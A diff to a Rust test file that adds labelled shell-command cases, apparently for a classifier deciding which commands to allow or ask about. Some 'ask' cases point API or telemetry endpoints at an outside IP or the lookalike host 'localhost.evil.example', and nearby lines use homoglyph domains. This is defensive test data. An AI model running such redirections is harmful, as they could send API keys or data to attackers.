@@ -3053,7 +3053,7 @@ fn h_ben14_neighbours() -> Vec<Base> {
 /// start like a verb, anonymous docker volumes and single character devices, skopeo copies to
 /// local transports, health probes of control planes, `*.pem` files named as certificates,
 /// ref listings cut down by text filters, test and scratch databases and tables, accented
-/// Latin host names, a no-break space inside a program name.
+/// Latin host names, a no-break space inside a program name, service endpoints on loopback.
 fn h_ben15_benign() -> Vec<Base> {
     [
         "kubectl get secret db -o jsonpath='{.metadata.name}'",
@@ -3086,6 +3086,8 @@ fn h_ben15_benign() -> Vec<Base> {
         "mysql -u root -e 'DROP DATABASE IF EXISTS myapp_test'",
         "curl -s https://münchen.de/",
         "screen\u{a0}-S david",
+        "OTEL_EXPORTER_OTLP_ENDPOINT=http://localhost:4317 npm start",
+        "export OPENAI_BASE_URL=http://127.0.0.1:11434/v1",
     ]
     .into_iter()
     .map(|c| b("benign-h-ben15", "allow", c.to_string()))
@@ -3139,6 +3141,12 @@ fn h_ben15_neighbours() -> Vec<Base> {
         ),
         ("ask", "curl -s https://gіthub.com/"),
         ("ask", "curl -s https://аpple-id.example/"),
+        ("ask", "export OPENAI_BASE_URL=http://203.0.113.5/v1"),
+        (
+            "ask",
+            "OTEL_EXPORTER_OTLP_ENDPOINT=http://localhost.evil.example:4317 npm start",
+        ),
+        ("ask", "export HTTPS_PROXY=http://127.0.0.1:8080"),
     ] {
         out.push(b("ben15-neighbours", expect, c.to_string()));
     }
